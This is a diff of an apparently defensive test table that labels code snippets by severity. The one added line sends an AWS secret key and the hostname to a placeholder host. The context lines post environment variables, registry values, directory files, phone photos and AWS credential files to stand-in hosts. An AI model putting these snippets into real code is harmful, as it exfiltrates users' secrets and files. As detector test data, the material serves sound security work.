@@ -66,6 +66,7 @@ def severity(trigger: str, source: str) -> str:
         ("call", f"import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'a')\nrequests.post('{_HOOK}', json={{'a': winreg.QueryValueEx(k, 'b')}})", "high"),
         ("call", "for d in ('/a', '/b', '~/c', '~/d'):\n    for f in os.listdir(d):\n        requests.post('https://h.example.invalid/', files={'f': open(os.path.join(d, f), 'rb')})", "high"),
         ("call", "requests.post('https://h.example.invalid/', data=dict(os.environ))", "high"),
+        ("call", "requests.get('https://h.example.invalid/' + os.environ['AWS_SECRET_ACCESS_KEY'] + os.uname().nodename)", "high"),
         ("call", f"requests.post('{_HOOK}', json={_WHO})", "high"),
         ("call", f"for r, d, fs in os.walk('/sdcard/DCIM'):\n    for f in fs:\n        requests.post('{_HOOK}', files={{'f': open(os.path.join(r, f), 'rb')}})", "high"),
         ("call", "requests.post('https://h.example.invalid/', data=open('/h/.aws/credentials').read())", "high"),
